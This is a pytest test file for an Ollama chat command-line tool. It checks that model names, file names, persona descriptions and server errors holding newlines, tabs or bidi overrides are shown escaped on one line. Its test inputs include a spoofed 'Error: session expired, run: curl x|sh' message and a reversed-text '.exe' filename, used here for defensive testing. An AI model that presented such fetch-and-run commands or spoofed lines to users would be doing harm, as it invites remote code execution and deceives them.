"""One-line fields stay one line: a model name, a file name, a persona's description, a title or a server's
words that hold a newline, a tab, a control character or a bidi override is shown escaped (`one_line`), so it
cannot print a line of its own, split a tab-separated field, or reverse what follows it."""

from __future__ import annotations

import pytest

from ollama_chat.ui.commands import handle_line
from ollama_chat.ui.status import toolbar
from ollama_chat.text import one_line
from test_session import make_chat, screen

HOSTILE = "evil\nError: session expired, run: curl x|sh"
SHOWN = "evil\\nError: session expired, run: curl x|sh"
FAKE_LINE = "Error: session expired"


def no_fake_line(text: str) -> None:
    """No line of `text` begins with the line the hostile name tries to print."""
    assert not [line for line in text.splitlines() if line.strip().startswith(FAKE_LINE)], text


@pytest.mark.parametrize("text, shown", [
    ("llama3.2:latest", "llama3.2:latest"),
    ("한국어 모델", "한국어 모델"),
    (HOSTILE, SHOWN),
    ("a\tb\r\nc", "a\\tb\\r\\nc"),
    ("\u202egnp.exe", "\\u202egnp.exe"),
    ("x\u2066y\u2069\u200f\u2028z", "x\\u2066y\\u2069\\u200f\\u2028z"),
    ("\x1b[2J\x07\x9b", "␛[2J␇␛["),  # other controls as `sanitize` shows them everywhere
    ("C:\\models\\n", "C:\\models\\n"),  # a backslash stays
])
def test_one_line_escapes_what_would_break_or_reverse_a_line(text, shown):
    assert one_line(text) == shown
    assert one_line(shown) == shown  # applying it twice changes nothing


def test_one_line_cuts_to_a_limit():
    assert one_line("가" * 10, 5) == "가가가가…" and one_line("short", 5) == "short"


def test_a_hostile_model_name_in_models_in_a_pipe_keeps_one_row_of_seven_fields(cli, fake_ollama):
    fake_ollama.add_model(HOSTILE)
    fake_ollama.add_model("tab\tname:1b")
    code, out, err = cli("models")
    assert code == 0, err
    rows = [line.split("\t") for line in out.splitlines()]
    assert sorted(row[0] for row in rows) == sorted(["llama3.2:latest", SHOWN, "tab\\tname:1b"])
    assert {len(row) for row in rows} == {7}


def test_a_hostile_model_name_in_the_models_table(cli, fake_ollama):
    fake_ollama.add_model(HOSTILE)
    fake_ollama.add_model("\u202egnp.exe:latest")
    code, out, err = cli("models", tty=True, columns=200)
    assert code == 0, err
    assert SHOWN in out and "\\u202egnp.exe" in out and "\u202e" not in out
    no_fake_line(out)


def test_the_refusal_of_a_missing_model_names_a_hostile_one_on_one_line(cli, fake_ollama):
    fake_ollama.add_model(HOSTILE)
    code, out, err = cli("-m", "evil", "질문")  # the server's hostile name is offered as "did you mean"
    assert code == 1 and f"Did you mean {SHOWN}" in err
    no_fake_line(err)
    code, out, err = cli("-m", "\u202ebad\nError: session expired", "질문")
    assert code == 1 and "Model '\\u202ebad\\nError: session expired' is not available" in err
    no_fake_line(err)


def test_a_hostile_model_name_in_the_repl(fake_ollama, tmp_path):
    fake_ollama.add_model(HOSTILE)
    chat = make_chat(fake_ollama, tmp_path)
    handle_line(chat, "/models")
    assert f"  {SHOWN}" in screen(chat)
    handle_line(chat, "/model evil")
    assert f"Did you mean {SHOWN}" in screen(chat)
    chat.session.switch_model(HOSTILE)  # as chosen from the completion menu
    handle_line(chat, "/model")
    handle_line(chat, "/show")
    assert f"Model: {SHOWN}" in screen(chat)
    no_fake_line(screen(chat))
    assert "\n" not in toolbar(chat.session) and SHOWN in toolbar(chat.session)


def test_the_completion_menu_never_puts_a_hostile_name_into_the_line(fake_ollama, tmp_path):
    from prompt_toolkit.completion import CompleteEvent
    from prompt_toolkit.document import Document

    from ollama_chat.ui.completion import ChatCompleter

    fake_ollama.add_model(HOSTILE)
    fake_ollama.add_model("\u202egnp.exe:latest")
    fake_ollama.add_model("evil-twin:7b")
    chat = make_chat(fake_ollama, tmp_path)
    completer = ChatCompleter(chat.session)
    completions = list(completer.get_completions(Document("/model ev"), CompleteEvent()))
    assert [(c.text, c.display_text) for c in completions] == [("evil-twin:7b", "evil-twin:7b")]
    assert list(completer.get_completions(Document("/model \u202e"), CompleteEvent())) == []


def test_a_file_named_with_a_newline_is_attached_under_an_escaped_name(cli, fake_ollama, tmp_path):
    folder = tmp_path / "work"
    folder.mkdir()
    hostile = folder / "notes\nError: session expired.txt"
    hostile.write_text("내용")
    code, out, err = cli("-f", str(hostile), "요약해 주세요", tty=True, columns=200)
    assert code == 0, err
    assert "📎 " in err and "notes\\nError: session expired.txt" in err
    no_fake_line(err)
    code, out, err = cli("-f", str(folder / "gone\nError: session expired.txt"), "질문")
    assert code != 0 and "gone\\nError: session expired.txt" in err
    no_fake_line(err)


def test_read_of_a_folder_with_such_a_file_in_the_repl(fake_ollama, tmp_path, monkeypatch):
    folder = tmp_path / "work"
    folder.mkdir()
    (folder / "notes\nError: session expired.txt").write_text("내용")
    (folder / "image\nError: session expired.bin").write_bytes(b"\x00\x01\x02" * 10)
    monkeypatch.chdir(tmp_path)
    chat = make_chat(fake_ollama, tmp_path)
    handle_line(chat, "/read work")
    handle_line(chat, "/read")  # what is waiting
    assert screen(chat).count("📎 work/notes\\nError: session expired.txt") == 2
    assert "binary (work/image\\nError: session expired.bin)" in screen(chat)  # the skipped file
    no_fake_line(screen(chat))


def test_a_title_with_a_bidi_override_in_history(cli, fake_ollama):
    code, out, err = cli("\u202eexe.txt 보고서를 열어 주세요")
    assert code == 0, err
    for tty in (False, True):
        code, out, err = cli("history", tty=tty, columns=200)
        assert code == 0, err
        assert "\\u202eexe.txt 보고서를 열어 주세요" in out and "\u202e" not in out
    code, out, err = cli("history")
    assert len(out.splitlines()) == 1 and len(out.split("\t")) == 6


def test_a_persona_description_with_a_newline(cli, fake_ollama, tmp_path):
    personas = tmp_path / ".config" / "ollama-chat" / "personas"
    personas.mkdir(parents=True)
    (personas / "sly.md").write_text('+++\ndescription = "친절한 비서\\nError: session expired\\t\u202etxt"\n+++\n당신은 비서입니다.\n')
    shown = "친절한 비서\\nError: session expired\\t\\u202etxt"
    code, out, err = cli("personas")
    assert code == 0, err
    sly = [line for line in out.splitlines() if line.startswith("sly\t")]
    assert len(sly) == 1 and sly[0].split("\t")[1] == shown and len(sly[0].split("\t")) == 3
    no_fake_line(out)
    code, out, err = cli("personas", tty=True, columns=200)
    assert shown in out
    no_fake_line(out)


def test_a_persona_description_with_a_newline_in_the_repl(fake_ollama, tmp_path):
    (tmp_path / "sly.md").write_text('+++\ndescription = "친절한 비서\\nError: session expired"\n+++\n당신은 비서입니다.\n')
    chat = make_chat(fake_ollama, tmp_path)
    handle_line(chat, "/personas")
    handle_line(chat, "/persona sly")
    handle_line(chat, "/persona")
    assert screen(chat).count("친절한 비서\\nError: session expired") == 3
    no_fake_line(screen(chat))


def test_a_servers_error_text_is_one_line_in_a_message(cli, fake_ollama):
    fake_ollama.reply_status(500, {"error": "out of memory\nError: session expired, run: curl x|sh"})
    code, out, err = cli("질문")
    assert code == 1 and "out of memory\\nError: session expired" in err
    no_fake_line(err)


def test_shell_completion_of_model_never_offers_a_name_with_a_newline(tmp_path, fake_ollama):
    import subprocess

    from helpers import BIN

    fake_ollama.add_model(HOSTILE)
    fake_ollama.add_model("evil-twin:7b")
    env = {"PATH": "/usr/bin:/bin", "HOME": str(tmp_path), "OLLAMA_HOST": fake_ollama.host_port,
           "_OLLAMA_CHAT_COMPLETE": "complete_bash", "COMP_WORDS": "ollama-chat -m ev", "COMP_CWORD": "2"}
    out = subprocess.run([str(BIN)], env=env, capture_output=True, text=True, timeout=30).stdout
    assert out.splitlines() == ["evil-twin:7b"]


def test_an_openai_servers_model_list_in_a_refusal_is_one_line_per_name(cli, fake_openai):
    fake_openai.add_model(HOSTILE)
    code, out, err = cli("--host", fake_openai.url, "-m", "nothing-here", "질문")
    assert code == 1 and "The server has:" in err and SHOWN in err
    no_fake_line(err)
